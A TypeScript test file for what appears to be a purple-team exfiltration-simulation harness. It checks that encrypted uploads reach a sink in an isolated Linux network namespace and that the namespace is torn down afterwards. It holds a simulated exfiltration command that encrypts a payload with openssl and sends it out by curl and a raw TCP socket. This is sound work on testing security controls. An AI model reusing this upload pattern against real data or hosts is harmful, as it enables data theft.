// The netns sink (Linux, root): uploads cross a veth pair into a namespace with a 198.18.0.0/15
// address, are verified there, and the namespace and links are gone after the run — and after a
// kill -9 of the harness followed by cleanupRun.

import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cleanupRun, executeRun, findByEnvironMarker, planRun, readRunState, variantDirName, workspacePath } from '../../harness/index.js';
import { isPurpleError } from '../../src/model/index.js';
import { makeVariant, testRunId } from './helpers.js';

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));
const usable = (() => {
  if (process.platform !== 'linux' || process.getuid?.() !== 0) return false;
  try {
    execFileSync('ip', ['netns', 'list'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();

const netnsNames = (): string => execFileSync('ip', ['netns', 'list'], { encoding: 'utf8' });
const links = (): string => execFileSync('ip', ['-o', 'link', 'show'], { encoding: 'utf8' });

const upload = [
  'sh',
  '-c',
  [
    'openssl enc -aes-256-cbc -pbkdf2 -salt -pass "file:$PURPLE_PASSFILE" -in "$PURPLE_PAYLOAD" -out "$PURPLE_OUT" || exit 1',
    'curl -sS --fail -o /dev/null -H "X-Purple-Token: $PURPLE_SINK_TOKEN" --data-binary "@$PURPLE_OUT" "$PURPLE_SINK_URL" || exit 2',
    'python3 -c "import os,socket; h,p=os.environ[\'PURPLE_SINK_TCP\'].rsplit(\':\',1); s=socket.create_connection((h,int(p))); s.sendall((\'PURPLE %s %s\\n\' % (os.environ[\'PURPLE_SINK_TOKEN\'], os.environ[\'PURPLE_VARIANT_ID\'])).encode() + open(os.environ[\'PURPLE_OUT\'],\'rb\').read()); s.shutdown(socket.SHUT_WR); s.recv(100)" || exit 3',
  ].join('\n'),
];

describe('netns sink', { skip: usable ? false : 'needs root on Linux with ip netns' }, () => {
  test('uploads leave loopback into the namespace, are verified, and everything is torn down', { timeout: 60_000 }, async () => {
    const stateDir = mkdtempSync(join(tmpdir(), 'purple-netns-state-'));
    const runId = testRunId('netns');
    try {
      const r = await executeRun({
        runId,
        sink: 'netns',
        variants: [makeVariant('n/up', [{ argv: upload }], { cipher: 'aes-256-cbc-pbkdf2', requires: ['openssl', 'curl', 'python3'] })],
        collectors: [],
        hostName: 'h',
        hostId: 'h',
        isRoot: true,
        stateDir,
      });
      const v = r.variants[0];
      assert.equal(v?.status, 'ran');
      assert.deepEqual(v?.steps.map((s) => s.exitCode), [0], v?.steps[0]?.stderrTail);
      assert.ok(r.netns);
      assert.match(r.netns.nsAddr, /^198\.(18|19)\.\d+\.\d+$/);
      assert.match(r.sink?.httpBase ?? '', new RegExp(`^http://${r.netns.nsAddr.replace(/\./g, '\\.')}:\\d+$`));
      assert.deepEqual(v?.receipts.map((x) => [x.protocol, x.ciphertext_verified]), [['http', true], ['tcp', true]]);
      // The peer is the host side of the veth: the upload really crossed it.
      for (const x of v?.receipts ?? []) assert.match(x.peer, new RegExp(`^${r.netns.hostAddr.replace(/\./g, '\\.')}:\\d+$`));
      assert.ok(r.cleanup.every((s) => s.ok), JSON.stringify(r.cleanup));
      assert.doesNotMatch(netnsNames(), new RegExp(r.netns.name));
      // Links are named pv<tag>a/b after the namespace's purple-<tag>.
      assert.doesNotMatch(links(), new RegExp(r.netns.name.replace('purple-', 'pv')));
      assert.deepEqual(await findByEnvironMarker('PURPLE_RUN_ID', runId), []);
      assert.deepEqual(readdirSync(stateDir), []);
    } finally {
      await cleanupRun(runId, { stateDir, force: true }).catch(() => undefined);
      rmSync(stateDir, { recursive: true, force: true });
    }
  });

  test('kill -9 of the harness, then cleanupRun removes the namespace, the link and the sink process', { timeout: 120_000 }, async () => {
    const stateDir = mkdtempSync(join(tmpdir(), 'purple-netns-crash-'));
    const runId = testRunId('netnscrash');
    const child = spawn(process.execPath, ['--import', 'tsx', 'test/fixtures/harness/crash-run.ts', runId, stateDir, '-', 'netns'], { stdio: ['ignore', 'ignore', 'pipe'] });
    let stderr = '';
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
    try {
      const ready = join(workspacePath(runId), 'variants', variantDirName('crash/block'), 'ready');
      for (let i = 0; i < 400 && !existsSync(ready); i++) await sleep(50);
      assert.ok(existsSync(ready), `the run started (stderr: ${stderr})`);
      const s = await readRunState(runId, stateDir);
      const ns = s?.artifacts.find((a) => a.kind === 'netns')?.value ?? '';
      const link = s?.artifacts.find((a) => a.kind === 'link')?.value ?? '';
      assert.match(ns, /^purple-[0-9a-f]{8}$/);
      assert.ok(s?.processes.some((p) => p.by === 'netns-sink'));
      child.kill('SIGKILL');
      await new Promise((r) => child.once('exit', r));
      assert.match(netnsNames(), new RegExp(ns));
      const steps = await cleanupRun(runId, { stateDir });
      assert.ok(steps.every((x) => x.ok), JSON.stringify(steps, null, 1));
      assert.doesNotMatch(netnsNames(), new RegExp(ns));
      assert.doesNotMatch(links(), new RegExp(link));
      assert.deepEqual(await findByEnvironMarker('PURPLE_RUN_ID', runId), []);
      assert.equal(existsSync(workspacePath(runId)), false);
    } finally {
      if (child.exitCode === null) child.kill('SIGKILL');
      await cleanupRun(runId, { stateDir, force: true }).catch(() => undefined);
      rmSync(stateDir, { recursive: true, force: true });
      rmSync(`/tmp/purple-crash-artifact-${runId}`, { recursive: true, force: true });
    }
  });
});

test('the netns sink is refused without root on Linux', { skip: process.getuid?.() === 0 && process.platform === 'linux' ? 'we are root on Linux' : false }, async () => {
  await assert.rejects(
    () => executeRun({ runId: testRunId('nonroot'), sink: 'netns', variants: [], collectors: [], hostName: 'h', hostId: 'h', isRoot: false }),
    (e: unknown) => isPurpleError(e) && e.code === 'PERMISSION',
  );
});

test('the dry run names the netns destinations without creating anything', async () => {
  const plan = await planRun({ runId: testRunId('plannetns'), sink: 'netns', variants: [makeVariant('n/p', [{ argv: ['curl', '{sink_url}'] }])], collectors: [], platform: 'linux' });
  // The upload URL carries the variant's marker for the team's controls (docs/controls.md).
  assert.match(plan.commands[0]?.argv[1] ?? '', /^http:\/\/198\.18\.<n>\.<m>:<port>\/upload\/n\/p\?purple_marker=purple-[^/]+\/v-[0-9a-f]{12}$/);
});
